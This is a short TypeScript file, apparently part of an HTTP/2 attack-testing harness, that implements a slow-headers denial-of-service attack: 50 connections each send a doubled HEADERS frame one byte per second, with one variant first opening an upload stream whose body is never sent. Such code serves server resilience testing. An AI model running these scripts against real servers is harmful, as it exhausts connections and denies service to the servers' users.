import type { Attacker } from '../lib/attacker.ts'
import type { Http2Connection } from '../lib/http2-connection.ts'
import { encodeFrame, posting, Type } from '../lib/frames.ts'
import { paths } from '../lib/paths.ts'
import { request } from './header-blocks.ts'

const connectionCount = 50
/** Milliseconds between two bytes. */
const interval = 1000

/** A frame of a header block that says it is long, and comes a byte a second. */
async function drip(connection: Http2Connection): Promise<void> {
  const frame = encodeFrame(
    Type.HEADERS,
    0,
    connection.nextStream(),
    Buffer.concat([request, request]),
  )
  for (const byte of frame) {
    await connection.send(Buffer.of(byte))
    await connection.sleep(interval)
  }
  await connection.untilEnded()
}

export async function slowHeaders(attacker: Attacker): Promise<void> {
  await attacker.http2(drip, { count: connectionCount })
}

/** The same beside a request whose body is not sent, either. */
export async function slowHeadersBesideAStream(attacker: Attacker): Promise<void> {
  const script = async (connection: Http2Connection): Promise<void> => {
    await connection.send(posting(connection.nextStream(), paths.upload), 0)
    await drip(connection)
  }
  await attacker.http2(script, { count: connectionCount })
}
